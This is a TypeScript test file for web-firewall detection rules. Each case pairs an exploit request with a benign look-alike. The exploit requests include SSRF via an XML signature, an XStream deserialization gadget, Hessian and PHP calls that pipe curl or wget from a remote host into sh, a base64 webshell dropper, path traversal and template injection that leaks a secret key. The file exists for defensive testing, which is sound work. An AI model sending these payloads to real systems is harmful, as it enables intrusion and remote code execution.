/**
 * Bundled rules of rev 2026-12-09p (issue 18, session 25): mechanisms held-out-18's misses showed after its blind
 * measurement, written for the class of exploit rather than the product. Each fires on its attack, sent the way such
 * an exploit sends it, and stays quiet on the benign request closest to it: an XML order naming ordinary classes (and
 * an RMI error quoted as text), a long proxy chain, a Hessian call with a catalog and a host name, PHP caching a config
 * file with var_export, a theme cookie of `system` and a longer base64 token, an image URL with a cache-busting query, a
 * CMS template editor printing the site URL, a .NET project's package hint path, a language tag and a docs path, a
 * Kubernetes group name and a job filter, a PNG with an EXIF raw profile, and an installer one-liner in a forum post.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, FORM_HEADERS, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, XML_HEADERS, get, postForm, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const postXml = (url: string, body: string): RequestSpec => ({ method: 'POST', url, headers: XML_HEADERS, body });
const hessian = (body: string): RequestSpec => ({ method: 'POST', url: '/mics/services/MICSLogService', headers: [...BROWSER, ['Content-Type', 'x-application/hessian']], body });
const hstr = (s: string): string => `S\x00${String.fromCharCode(s.length)}${s}`;
const upload = (name: string, type: string, content: string): RequestSpec => ({
  method: 'POST',
  url: '/api/avatar',
  headers: [...BROWSER, ['Content-Type', 'multipart/form-data; boundary=----WebKitFormBoundaryq8']],
  body: `------WebKitFormBoundaryq8\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n------WebKitFormBoundaryq8--\r\n`,
});
const PNG = '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00\x90\x91h6';

const KEYINFO = (uri: string): string =>
  `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/></ds:SignedInfo><ds:SignatureValue>c2lnbmF0dXJl</ds:SignatureValue><ds:KeyInfo><ds:RetrievalMethod URI="${uri}" Type="http://www.w3.org/2000/09/xmldsig#X509Data"/></ds:KeyInfo></ds:Signature></soap:Body></soap:Envelope>`;

const CASES: RuleCase[] = [
  // 9000543 (rev 2026-12-16n, lead, session 35): the exploit's real signal, which only the model's score of the algorithm URI caught.
  [9000543, 'block', 'a KeyInfo RetrievalMethod fetching a loopback address', postXml('/dana-ws/saml20.ws', KEYINFO('http://127.0.0.1:8090/api/v1/configuration')), postXml('/dana-ws/saml20.ws', KEYINFO('#KeyInfo-1'))],
  [9000543, 'block', 'the same with file: and no namespace prefix', postXml('/saml/acs', KEYINFO('file:///etc/passwd').replace(/ds:RetrievalMethod/g, 'RetrievalMethod')), postXml('/saml/acs', '<AuthnRequest><Issuer>https://sp.example.com/metadata</Issuer><Note>RetrievalMethod URI is #id here</Note></AuthnRequest>')],
  [9001061, 'block', 'an XStream PriorityQueue holding an RMI registry stub', postXml('/rest/import', "<java.util.PriorityQueue serialization='custom'><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default><int>3</int><javax.naming.ldap.Rdn_-RdnEntry><type>a</type><value class='com.sun.org.apache.xpath.internal.objects.XString'><m__obj class='string'>x</m__obj></value></javax.naming.ldap.Rdn_-RdnEntry><javax.naming.ldap.Rdn_-RdnEntry><type>b</type><value class='sun.rmi.registry.RegistryImpl_Stub' serialization='custom'><java.rmi.server.RemoteObject><string>UnicastRef</string><string>203.0.113.9</string><int>1099</int></java.rmi.server.RemoteObject></value></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue></java.util.PriorityQueue>"), postXml('/rest/import', '<java.util.ArrayList><com.acme.Order><id>17</id><note>retry: sun.rmi.registry.RegistryImpl_Stub lookup timed out, see java.util.PriorityQueue docs</note></com.acme.Order></java.util.ArrayList>')],
  [9001061, 'block', 'a class attribute naming sun.reflect', postXml('/api/orders', '<map><entry><string>x</string><handler class="sun.reflect.annotation.AnnotationInvocationHandler"><type>java.lang.Override</type></handler></entry></map>'), postXml('/api/orders', '<order class="com.acme.shop.Order"><item class="com.acme.shop.Item">sun misc</item></order>')],
  [9001265, 'block', 'an X-Forwarded-For of 2,000 digits and dots', { method: 'POST', url: '/dana-na/auth/url_default/welcome.cgi', headers: [...FORM_HEADERS, ['X-Forwarded-For', '1.'.repeat(1000)]], body: 'tz_offset=0&btnSubmit=Sign+In' }, { method: 'POST', url: '/dana-na/auth/url_default/welcome.cgi', headers: [...FORM_HEADERS, ['X-Forwarded-For', Array.from({ length: 40 }, (_, i) => `10.${i}.20.${i + 1}`).join(', ')], ['X-Real-IP', '192.168.100.254']], body: 'tz_offset=0&btnSubmit=Sign+In' }],
  [9001265, 'block', 'an X-Real-IP of 9s', get('/login', [['X-Real-IP', '9'.repeat(300)]]), get('/login', [['X-Request-ID', '9'.repeat(300)], ['X-Forwarded-For', '203.0.113.7']])],
  [9000372, 'block', 'a Hessian call whose argument downloads and runs a script', hessian(`c\x01\x00m\x00\x18uploadFileUsingFileInputM${hstr('command')}${hstr('curl http://198.51.100.7/a.sh|sh')}${hstr('isRoot')}Tzz`), hessian(`c\x01\x00m\x00\x0dgetHostConfigM${hstr('hostname')}${hstr('web01')}${hstr('catalog')}${hstr('cat food & toys')}z`)],
  [9000372, 'block', 'a Hessian call reading /etc/passwd', hessian(`c\x01\x00m\x00\x03runM${hstr('cmd')}${hstr('cat /etc/passwd')}z`), hessian(`c\x01\x00m\x00\x03runM${hstr('path')}${hstr('/etc/app/config.yml')}${hstr('mode')}${hstr('ls')}z`)],
  [9001665, 'block', 'file_put_contents of a .php name from base64_decode', postForm('/admin/ajax.php', "code=%3C%3Fphp+file_put_contents('onqey.php'%2C+base64_decode('PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA%2FPg%3D%3D'))%3B+%3F%3E"), json('{"snippet":"<?php file_put_contents(\'cache/config.php\', \'<?php return \' . var_export($config, true) . \';\'); $raw = base64_decode($blob);"}')],
  [9001666, 'block', 'cookies holding a function name and a command in base64', get('/client/index.php', [['Cookie', 'ab=ab; c=c3lzdGVt; d=aWZjb25maWc=']]), get('/client/index.php', [['Cookie', 'theme=system; token=c3lzdGVtOmFkbWlu; lang=en']])],
  [9001666, 'block', 'a query value that is exec in base64', get('/run.php?f=ZXhlYw%3D%3D&a=aWQ%3D'), get('/run.php?f=ZXhlY3V0aXZlLXN1bW1hcnk%3D&mode=system')],
  // rev 2 (fp26): system in base64 blocks only beside a command in base64; a theme cookie saved as btoa('system') passes.
  [9001666, 'block', 'system in base64 after the command in base64 (cookie order reversed)', get('/client/index.php', [['Cookie', 'd=Y3VybCAtTyBodHRwOi8vMTk4LjUxLjEwMC43L2E%3D; c=c3lzdGVt']]), get('/', [['Cookie', 'theme=c3lzdGVt; PHPSESSID=k2j3h4g5f6d7s8a9q0w1e2r3t4; lang=en']])],
  [9001666, 'block', 'query values system and id, both in base64', get('/run.php?f=c3lzdGVt&a=aWQ%3D'), get('/settings?appearance=c3lzdGVt&page=2&font=aW50ZXI%3D')],
  [9000467, 'block', 'an attachment path with ?/../ steps', postForm('/wp-admin/post.php', 'action=editpost&post_ID=2554&meta_input[_wp_attached_file]=2018%2F07%2Fg0s7j.jpg%3F%2F..%2F..%2F..%2F..%2Fthemes%2Ftwentyseventeen%2F2qzb'), postForm('/wp-admin/post.php', 'action=editpost&post_ID=2554&thumb=%2Fuploads%2F2018%2F07%2Fg0s7j.jpg%3Fv%3D2&back=..%2F..%2Fedit.php')],
  [9000764, 'block', 'a template printing Craft\'s securityKey', get('/actions/seomatic/meta-container/meta-link-container/?uri=%7B%7Bcraft.app.config.general.securityKey%7D%7D&asArray=1'), postForm('/admin/templates/save', 'template=%7B%7B+craft.app.config.general.siteUrl+%7D%7D%3Ch1%3E%7B%7B+entry.title+%7D%7D%3C%2Fh1%3E&name=_layout')],
  [9000764, 'block', 'a Jinja expression printing SECRET_KEY', json('{"subject":"{{ config.SECRET_KEY }}"}'), json('{"subject":"Your key: {{ user.api_key_hint }}","help":"set SECRET_KEY in the environment"}')],
  [9000468, 'block', 'JSON-escaped ..\\\\ steps to an .aspx page', postJson('/NmConsole/ReportService.asmx/GetFileWithoutZip', '{"reportFileName":"..\\\\..\\\\..\\\\..\\\\Program Files (x86)\\\\Ipswitch\\\\WhatsUp\\\\html\\\\NmConsole\\\\lhtue.aspx","operation":"Copy"}'), postJson('/api/build', '{"hintPath":"..\\\\..\\\\..\\\\packages\\\\Newtonsoft.Json.13.0.1\\\\lib\\\\net45\\\\Newtonsoft.Json.dll","page":"..\\\\Views\\\\Home\\\\Index.aspx"}')],
  [9000469, 'block', 'a lang parameter climbing with ..%5C', get('/api/calendar?lang=..%5C..%5C..%5C..%5Capp/public/avatars%2Fwazq3ny&date=2024-03-16'), get('/api/calendar?lang=pt-BR&locale=en_US&file=..%2Fdocs%2Fintro.md')],
  [9000469, 'block', 'a JSON locale that is a path', json('{"locale":"../../../tmp/uploads/x","date":"2024-03-16"}'), json('{"locale":"en-GB","template":"../partials/header"}')],
  [9001667, 'block', 'a datatable field spec field:exec:whoami', get('/wp-admin/admin-ajax.php?action=upg_datatable&field=field%3Aexec%3Awhoami%3ANULL%3ANULL'), get('/api/rbac?group=system%3Aserviceaccounts%3Akube-system&filter=job%3Aexec%3Anightly-backup')],
  [9001667, 'block', 'passthru:ifconfig as a column spec', get('/wp-admin/admin-ajax.php?action=upg_datatable&field=field%3Apassthru:ifconfig:NULL:NULL'), postForm('/admin/monitoring/checks', 'name=web&check=http%3Aexec%3Acurl+-fsS+http%3A%2F%2Flocalhost%3A8080%2Fhealth&interval=30s&tags=exec%3Ahostname')],
  [9000470, 'block', 'a PNG tEXt chunk profile naming /etc/passwd', upload('a.png', 'image/png', `${PNG}\x00\x00\x00\x13tEXtprofile\x00/etc/passwd\x12\x34\x56\x78\x00\x00\x00\x00IEND\xaeB\x60\x82`), upload('a.png', 'image/png', `${PNG}\x00\x00\x00\x20zTXtRaw profile type exif\x00\x00x\x9c\x00\x00\x00\x10tEXtComment\x00profile pic\x00\x00\x00\x00IEND\xaeB\x60\x82`)],
  [9001668, 'block', 'passthru of wget piped to sh', postForm('/admin/ajax.php', "code=%3C%3Fphp+passthru('wget+-q+-O-+http%3A%2F%2F198.51.100.7%2Fa%7Csh')%3B+%3F%3E"), json('{"body":"Install it with curl -fsSL https://get.docker.com | sh, then in PHP call shell_exec(\'docker ps\') from the worker."}')],
  [9001266, 'block', 'overflow filler then raw bytes in a query value', get(`/gwtest/formssso?event=start&target=${'B'.repeat(300)}%e8%0f%c3%90%90%90%31%c0%50%68`), get(`/api/thumb?data=${'A'.repeat(120)}%2BAA%3D%3D&name=caf%C3%A9%20cr%C3%A8me`)],
];

describe("bundled rules for held-out-18's exploit mechanisms (rev 2026-12-09p)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
